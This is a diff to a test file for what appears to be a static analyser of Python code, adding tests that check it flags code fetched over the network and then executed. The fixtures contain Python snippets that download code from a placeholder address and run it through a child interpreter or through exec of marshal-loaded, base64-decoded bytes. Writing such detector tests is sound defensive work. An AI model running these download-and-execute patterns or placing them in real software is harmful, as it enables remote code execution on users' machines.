@@ -59,6 +59,26 @@ describe("a constant is known however it is written", () => {
 });
 
 describe("flows", () => {
+  test("a program that another interpreter reads from its input", async () => {
+    const source = `import requests, subprocess, sys\ncode = requests.get("${address}").text\nsubprocess.run([sys.executable, "-"], input=code)\np = subprocess.Popen([sys.executable], stdin=subprocess.PIPE)\np.communicate(code.encode())\n`;
+    const evaluations = await effectsOfPython("evaluate", source);
+    assert.deepEqual(
+      evaluations.map(({ subject, traits }) => [subject.origins.some(({ kind }) => kind === "network"), ...traits]),
+      [
+        [true, "inline-code"],
+        [true, "inline-code"],
+      ],
+    );
+  });
+
+  test("compiled code that is loaded and run is machine code", async () => {
+    const [evaluation] = await effectsOfPython(
+      "evaluate",
+      `import marshal, base64, requests\nexec(marshal.loads(base64.b64decode(requests.get("${address}").text)))\n`,
+    );
+    assert.deepEqual(evaluation?.traits, ["machine-code"]);
+  });
+
   test("an answer is evaluated in another module, through a class", async () => {
     const { effects } = await readFiles({
       "main.py": `from tools.net import Client\nfrom tools import runner as r\nr.handle(Client("${address}").get())\n`,
